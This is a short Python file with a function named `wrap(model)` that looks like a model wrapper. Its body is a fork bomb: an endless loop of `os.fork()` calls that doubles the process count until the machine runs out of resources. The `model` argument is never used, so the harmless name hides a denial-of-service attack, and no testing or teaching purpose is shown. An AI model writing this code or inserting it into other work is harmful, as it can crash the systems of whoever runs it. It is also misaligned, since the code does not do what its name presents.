"""Doubles until it is stopped."""

import os
import time


def wrap(model):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
